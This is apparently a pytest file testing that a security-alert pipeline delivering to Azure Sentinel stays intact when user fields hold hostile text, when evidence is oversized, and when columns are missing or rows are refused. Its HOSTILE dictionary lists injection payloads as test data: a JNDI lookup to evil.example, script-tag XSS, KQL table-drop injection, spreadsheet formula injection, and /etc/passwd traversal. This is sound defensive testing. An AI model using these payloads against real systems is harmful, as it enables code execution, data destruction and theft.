"""Whatever stands in a field that a user chooses: the alert arrives whole, and a person is called only where needed."""

from __future__ import annotations

import json
import logging
from collections import Counter
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from typing import Any

import orjson
import pytest

import functions.detectors
from cli.examples import examples_of
from cli.local_credential import LocalCredential
from lab.azure.ingestion import IngestionEndpoint
from lab.azure.ingestion_faults import Fault
from lab.azure.ingestion_rules import DECLARED, Call, Refusal
from shared.alerts._fitting import MAX_ROW_BYTES
from shared.alerts.alert import Alert
from shared.alerts.alert_columns import STREAM
from shared.alerts.alert_row import encoded, to_row
from shared.base.clock import VirtualClock
from shared.collector.collector import Collector
from shared.delivery.outbox import CLAIM_SECONDS
from shared.delivery.sentinel import SentinelOutlet
from shared.detection.discovery import discover
from shared.events import Batch, Message
from shared.events.registry import registry
from shared.storage import SqliteStore
from shared.upkeep.status.page import render
from tests.alerts.alert_event_model import AlertEvent
from tests.alerts.examples import START, example
from tests.delivery.test_sentinel import uids_in

DETECTOR = "entra.service_principal_credential_added"
HIT = next(
    one.records[0]
    for detector in discover(functions.detectors)
    if detector.id == DETECTOR
    for one in examples_of(detector)
    if one.expect == "hit"
)
MANY_LINES = ["RecordsQuery", "AttackRemediationSteps"]
"""Columns that have more than one line, which our own text alone begins."""

HOSTILE = {
    "braces": "{actor_username}{{7*7}}{0.__class__}${jndi:ldap://evil.example/x}%s%(name)s",
    "control characters": "a\x00b\x1b[2Jc\x07d\r\ne\tf\x7f\x85g",
    "right to left": "invoice\u202efdp.exe\u2066\u2069\u200f",
    "zero width": "ad\u200bm\u200ci\u200dn\ufeff\u2060",
    "tags and fillers": "\U000e0041\U000e007f\u3164\u115f",
    "KQL": 'x" or true // \n| take 1; .drop table TelltaleAlerts_CL\\',
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&",
    "Markdown": "[log in](https://evil.example) ![](https://evil.example/pixel) `x`",
    "CSV with =": "=cmd|' /C calc'!A0",
    "CSV with +": "+1+cmd|' /C calc'!A0",
    "CSV with -": "-2+3+cmd|' /C calc'!A0",
    "CSV with @": "@SUM(1+1)*cmd|' /C calc'!A0\",\"x",
    "a line of a log": "\n2026-11-02 ERROR root logged in",
    "a path": "../../../etc/passwd\\..\\C:",
    "a key of a table": "a/b\\c#d?e|f",
    "beyond the basic plane": "\U0001f469\u200d\U0001f4bb \U0002000b",
    "half a pair": "\ud83d",
    "long": "x" * 300_000,
}


class Delivering:
    """A collector with every detector that delivers to the local endpoint."""

    def __init__(self, endpoint: IngestionEndpoint, clock: VirtualClock) -> None:
        self.endpoint, self.clock = endpoint, clock
        self.collector = Collector(
            store=SqliteStore(":memory:"), clock=clock, detectors=discover(functions.detectors),
            registry=registry(), customer="contoso",
            outlet=SentinelOutlet(endpoint.url, endpoint.rule_id, LocalCredential, clock),
        )  # fmt: skip
        self._number = 0

    def take(self, *records: Mapping[str, Any]) -> None:
        """One batch with these records."""
        body = json.dumps({"records": records}).encode()
        self.collector.collect(Batch("telemetry", "0", (Message(body, self._number, self.clock.now()),)))
        self._number += 1

    def rest(self) -> None:
        """Lets the timer deliver what waits."""
        for _ in range(10):
            self.clock.advance(CLAIM_SECONDS)
            self.collector.deliver()

    def rows(self, rule: str = DETECTOR) -> list[dict[str, Any]]:
        return [row for row in self.endpoint.rows() if row["RuleName"] == rule]

    def told(self) -> list[dict[str, Any]]:
        """What calls for a person."""
        return [row for row in self.endpoint.rows() if str(row["RuleName"]).startswith("telltale.")]

    def raise_alerts(self, *alerts: Alert) -> None:
        self.collector.outbox.add(alerts)
        self.collector.deliver()


def lacking(*columns: str) -> Mapping[str, Any]:
    """The streams of a data collection rule of an older version."""
    return {
        name: {column: kind for column, kind in declared.items() if name != STREAM or column not in columns}
        for name, declared in DECLARED.items()
    }


def delivering(streams: Mapping[str, Any] = DECLARED) -> Iterator[Delivering]:
    clock = VirtualClock(START)
    with IngestionEndpoint(clock=clock, streams=streams) as endpoint:
        subject = Delivering(endpoint, clock)
        yield subject
        subject.collector.close()


@pytest.fixture
def subject() -> Iterator[Delivering]:
    yield from delivering()


def record(text: str, number: int = 0) -> dict[str, Any]:
    """The record of the first example, `text` wherever a user has the word."""
    changed: dict[str, Any] = json.loads(json.dumps(HIT))
    properties = changed["properties"]
    properties["id"] = properties["correlationId"] = changed["correlationId"] = f"record-{number}"
    properties["initiatedBy"]["user"]["userPrincipalName"] = text
    properties["targetResources"][0]["displayName"] = text
    changed["identity"] = text
    return changed


class Tags(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_an_alert_about_hostile_words_arrives_beside_its_neighbours(
    subject: Delivering, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "telltale")
    subject.take(record("ann@example.com", 1), record(text, 2), record("bob@example.com", 3))
    subject.rest()

    rows = subject.rows()
    assert sorted(Counter(row["EventUid"] for row in rows).values()) == [1, 1, 1]
    assert {"ann@example.com", "bob@example.com"} < {row["Username"] for row in rows}
    [row] = [one for one in rows if one["Username"] not in {"ann@example.com", "bob@example.com"}]
    AlertEvent.model_validate_json(orjson.dumps(row))
    assert [
        name for name, value in row.items() if isinstance(value, str) and not value.isprintable()
    ] == MANY_LINES
    assert len(row["RecordsQuery"].splitlines()) == 3
    assert row["RecordsQuery"].replace("\n", "").isprintable()
    assert not row["AlertName"].startswith(("=", "+", "-", "@"))
    assert not row["EventMessage"].startswith(("=", "+", "-", "@"))
    assert row["TargetName"] == row["Username"]
    assert subject.told() == []
    assert subject.collector.outbox.dead_count() == 0
    assert all("\n" not in entry.getMessage() for entry in caplog.records)
    page = render(subject.collector.status())
    assert Tags(page).tags["script"] == Tags(page).tags["img"] == 0


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_words_in_every_part_of_an_alert_make_a_row(text: str) -> None:
    entities = dict.fromkeys([*example().entities, "url", "src_hostname", "dvc_hostname", text], text)
    entities |= {"resource_id": f"/subscriptions/{text}", "tenant_id": text}
    row = orjson.loads(encoded(to_row(
        example(
            name=text, message=text, operation=text, entities=entities, evidence={text: [text]}, tags=(text,),
            runbook=(text,), response=(text,), source=text,
        )
    )))  # fmt: skip
    AlertEvent.model_validate_json(orjson.dumps(row))
    link = row.get("ResourceLink")
    assert (link is None) == (len(text) > 1_000)
    assert link is None or (link.isascii() and link.startswith("https://portal.azure.com/#@"))


def test_words_that_a_spreadsheet_would_run_stay_as_they_are_where_they_are_matched(
    subject: Delivering,
) -> None:
    subject.take(record(HOSTILE["CSV with ="]))
    [row] = subject.rows()
    assert row["Username"] == row["AccountName"] == row["TargetName"] == HOSTILE["CSV with ="]
    assert row["AlertName"].startswith("'=cmd|")


def test_five_megabytes_of_evidence_are_cut_and_said_and_cost_no_other_alert(subject: Delivering) -> None:
    body = "é" * 2_500_000
    big = example("big", evidence={"body": body, "reason": "why"}, message=body, runbook=(body,))
    subject.raise_alerts(example("before"), big, example("after"))

    rows = {row["EventUid"]: row for row in subject.endpoint.rows()}
    assert len(rows) == 3
    row = rows[big.uid]
    assert len(orjson.dumps(row)) <= MAX_ROW_BYTES
    assert {"Evidence", "EventMessage", "Runbook"} <= set(row["CutFields"].split(", "))
    assert row["Evidence"]["reason"] == "why"
    for name in ("RuleName", "AlertName", "Username", "SrcIpAddr", "TargetName", "ResourceId"):
        assert row[name] == to_row(example())[name]
    assert subject.told() == []


def test_a_record_of_five_megabytes_raises_its_alert(subject: Delivering) -> None:
    large = record("ann@example.com")
    large["properties"]["additionalDetails"] = [{"key": "note", "value": "x" * 5_000_000}]
    large["properties"]["targetResources"][0]["displayName"] = "y" * 5_000_000
    subject.take(large, record("bob@example.com", 2))

    rows = {row["Username"]: row for row in subject.rows()}
    assert rows.keys() == {"ann@example.com", "bob@example.com"}
    assert set(rows["ann@example.com"]["TargetName"]) <= {"y", "…"}
    assert subject.told() == []


@pytest.mark.parametrize(
    "columns",
    [("RecordsQuery",), ("RecordsQuery", "UserLink", "Customer", "Evidence")],
    ids=["one", "several"],
)
def test_a_rule_that_lacks_columns_gets_the_rest_and_a_person_is_told_once(columns: tuple[str, ...]) -> None:
    for subject in delivering(lacking(*columns)):
        for number in range(5):
            subject.raise_alerts(example(f"first {number}"), example(f"second {number}"))
            subject.clock.advance(3_600)
        subject.rest()

        alerts = [row for row in subject.endpoint.rows() if not row["RuleName"].startswith("telltale.")]
        assert sorted(Counter(row["EventUid"] for row in alerts).values()) == [1] * 10
        assert not any(set(columns) & row.keys() for row in alerts)
        assert all(row["TargetName"] == "Payroll" for row in alerts)
        [told] = subject.told()
        assert told["RuleName"] == "telltale.delivery_missing_columns"
        assert all(name in told["EventMessage"] for name in columns)
        assert "Deploy the table and the data collection rule" in str(told["RemediationSteps"])
        assert subject.collector.outbox.dead_count() == subject.collector.outbox.pending_count() == 0


def test_a_rule_that_takes_no_row_at_all_is_told_once_and_nothing_is_put_aside(subject: Delivering) -> None:
    subject.endpoint.fault = lambda _: Fault("400", 400, "InvalidColumn")
    subject.raise_alerts(*(example(number) for number in range(30)))
    subject.rest()
    assert subject.collector.outbox.dead_count() == 0

    subject.endpoint.fault = None
    for _ in range(30):
        subject.rest()
    assert len(subject.endpoint.rows()) == 31
    assert [row["RuleName"] for row in subject.told()] == ["telltale.delivery_every_row_refused"]


def test_a_row_that_is_refused_for_good_is_put_aside_and_told_once(subject: Delivering) -> None:
    alerts = [example(number) for number in range(10)]

    def refuses(call: Call) -> Refusal | None:
        bad = alerts[4].uid in uids_in(call)
        return Refusal(400, "InvalidColumn", "a value does not fit") if bad else None

    subject.endpoint.fault = refuses
    subject.raise_alerts(*alerts)
    subject.rest()

    assert {one.uid for one in subject.collector.outbox.refused()} == {alerts[4].uid}
    [told] = subject.told()
    assert told["RuleName"] == "telltale.delivery_rows_refused"
    assert "telltale redrive" in str(told["RemediationSteps"])


def test_an_alert_keeps_its_id_whatever_it_holds(subject: Delivering) -> None:
    texts = list(HOSTILE.values())
    for _ in range(2):  # as after a crash
        subject.take(*(record(text, number) for number, text in enumerate(texts)))
    subject.rest()
    uids = Counter(row["EventUid"] for row in subject.rows())
    assert (len(uids), set(uids.values())) == (len(texts), {1})
